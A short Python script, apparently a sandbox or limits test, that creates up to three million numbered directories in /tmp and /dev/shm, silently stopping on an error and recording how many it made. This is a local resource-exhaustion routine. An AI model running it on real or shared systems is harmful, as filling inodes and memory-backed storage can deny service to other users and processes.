import os

count = 0
try:
    for folder in ("/tmp", "/dev/shm"):
        while count < 3000000:
            os.mkdir("%s/%d" % (folder, count))
            count += 1
except OSError:
    pass
x = count
